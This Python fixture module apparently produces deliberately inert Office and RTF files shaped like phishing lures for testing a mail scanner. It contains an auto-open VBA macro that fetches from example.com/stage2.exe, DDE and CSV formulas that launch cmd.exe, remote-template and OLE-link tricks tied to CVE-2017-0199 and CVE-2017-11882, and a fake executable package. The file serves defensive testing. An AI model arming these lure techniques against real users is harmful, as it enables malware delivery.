"""Harmless Office documents with the shapes of Office lures: a macro that would fetch and run
(pointing at example.com, never run), a DDE field, a remote template, RTF objects, an
encrypted workbook. Real formats (oletools parses them as it would a real lure)."""

from __future__ import annotations

import io
import struct
import zipfile

from koban.mail.vbabuild import make_docm

_CT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/>'
    '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.settings+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

DROPPER = """Sub AutoOpen()
    Dim url As String
    url = "https://example.com/stage2.exe"
    Set http = CreateObject("MSXML2.XMLHTTP")
    http.Open "GET", url, False
    Shell "cmd.exe /c echo documentation-example", vbHide
End Sub
"""
HARMLESS_MACRO = """Sub FormatTable()
    Selection.Font.Bold = True
End Sub
"""


def macro_docm(source: str = DROPPER) -> bytes:
    """A .docm whose VBA module is ``source`` (by default an auto-open "dropper" that only
    echoes; the URL is example.com)."""
    return make_docm(source)


def _docx(body: str, settings: str = "", settings_rels: str = "") -> bytes:
    doc = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="{_W}" '
        f'xmlns:r="{_R}"><w:body>{body}</w:body></w:document>'
    )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", _CT)
        zf.writestr("_rels/.rels", _RELS)
        zf.writestr("word/document.xml", doc)
        zf.writestr(
            "word/settings.xml",
            settings or f'<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="{_W}"/>',
        )
        if settings_rels:
            zf.writestr("word/_rels/settings.xml.rels", settings_rels)
    return buf.getvalue()


def plain_docx(text: str = "Quarterly report: nothing unusual.") -> bytes:
    """An ordinary Word document with one paragraph."""
    return _docx(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>")


def dde_docx(command: str = 'c:\\\\windows\\\\system32\\\\cmd.exe "/k echo example"') -> bytes:
    """A .docx with a DDEAUTO field (Word would ask to update links, then start ``command``)."""
    instr = f"DDEAUTO {command}"
    return _docx(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {instr} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Loading...</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def remote_template_docx(url: str = "https://example.com/templates/invoice.dotm") -> bytes:
    """A .docx whose settings attach a template fetched from ``url`` at open."""
    settings = (
        f'<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="{_W}" xmlns:r="{_R}">'
        '<w:attachedTemplate r:id="rId1"/></w:settings>'
    )
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/attachedTemplate" Target="{url}" TargetMode="External"/>'
        "</Relationships>"
    )
    return _docx("<w:p><w:r><w:t>Loading template...</w:t></w:r></w:p>", settings, rels)


def external_object_docx(url: str = "https://example.com/objects/report.rtf") -> bytes:
    """A .docx whose body links an OLE object fetched from ``url`` at open (CVE-2017-0199
    shape)."""
    buf = io.BytesIO(_docx("<w:p><w:r><w:t>Chart:</w:t></w:r></w:p>"))
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/oleObject" Target="{url}" TargetMode="External"/></Relationships>'
    )
    with zipfile.ZipFile(buf, "a") as zf:
        zf.writestr("word/_rels/document.xml.rels", rels)
    return buf.getvalue()


def local_template_docx() -> bytes:
    """A .docx attached to the user's own Normal.dotm (what Word writes every day)."""
    settings = (
        f'<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="{_W}" xmlns:r="{_R}">'
        '<w:attachedTemplate r:id="rId1"/></w:settings>'
    )
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="Normal.dotm"/></Relationships>'
    )
    return _docx("<w:p><w:r><w:t>Minutes</w:t></w:r></w:p>", settings, rels)


def _ole1(class_name: bytes, native: bytes) -> bytes:
    """MS-OLEDS 2.2.4/2.2.5 ObjectHeader + EmbeddedObject (OLE 1.0), as RTF \\objdata holds."""
    cls = class_name + b"\x00"
    return (
        struct.pack("<II", 0x00000501, 2)
        + struct.pack("<I", len(cls))
        + cls
        + struct.pack("<II", 0, 0)  # topic and item names: empty
        + struct.pack("<I", len(native))
        + native
    )


def _rtf(objclass: str, objdata: bytes, extra: str = "") -> bytes:
    hexdata = objdata.hex()
    lines = "\n".join(hexdata[i : i + 128] for i in range(0, len(hexdata), 128))
    return (
        "{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}\n"
        "{\\pard Please double-click the icon below.\\par}\n"
        f"{{\\object\\objemb{extra}{{\\*\\objclass {objclass}}}\\objw1000\\objh800"
        f"{{\\*\\objdata\n{lines}\n}}}}\n}}\n"
    ).encode("ascii")


def rtf_package(filename: str = "invoice.exe", payload: str | bytes = b"") -> bytes:
    """An RTF with an OLE Package object wrapping ``filename`` (a few harmless bytes, or
    ``payload``): the icon a lure asks the reader to double-click."""
    if isinstance(payload, str):
        payload = payload.encode("utf-8")
    body = payload or (b"MZ" + bytes(62) + b"documentation example, not a program")
    name = filename.encode("latin-1") + b"\x00"
    src = b"C:\\Users\\Public\\" + name
    native = (
        struct.pack("<H", 2)
        + name
        + src
        + struct.pack("<II", 0, 0)
        + src
        + struct.pack("<I", len(body))
        + body
    )
    return _rtf("Package", _ole1(b"Package", native))


def rtf_equation() -> bytes:
    """An RTF with an (empty, inert) Equation.3 object that updates itself at open: the
    CVE-2017-11882 delivery shape."""
    return _rtf("Equation.3", _ole1(b"Equation.3", bytes(64)), extra="\\objupdate")


def plain_rtf() -> bytes:
    """An ordinary RTF letter."""
    return b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}{\\pard Dear customer,\\par}}\n"


def csv_dde() -> bytes:
    """A CSV whose cell is a DDE formula (Excel would start cmd)."""
    return b"name,amount\r\n=cmd|' /C echo example'!A0,1\r\n"


def encrypted_docx(
    password: str = "VelvetSweatshop",  # noqa: S107 - Office's published built-in password
    source: str = DROPPER,
) -> bytes:
    """A macro .docm encrypted (ECMA-376 agile) with ``password``."""
    import importlib

    ooxml = importlib.import_module("msoffcrypto.format.ooxml")
    buf = io.BytesIO(macro_docm(source))
    with zipfile.ZipFile(buf, "a") as zf:
        # msoffcrypto 6.1 writes packages under 4 KB (OLE mini-stream) that it cannot decrypt
        # again: pad with a stored part, as real documents are larger anyway.
        zf.writestr("docProps/custom.xml", "<Properties/>" + " " * 5000, zipfile.ZIP_STORED)
    out = io.BytesIO()
    ooxml.OOXMLFile(io.BytesIO(buf.getvalue())).encrypt(password, out)
    return out.getvalue()
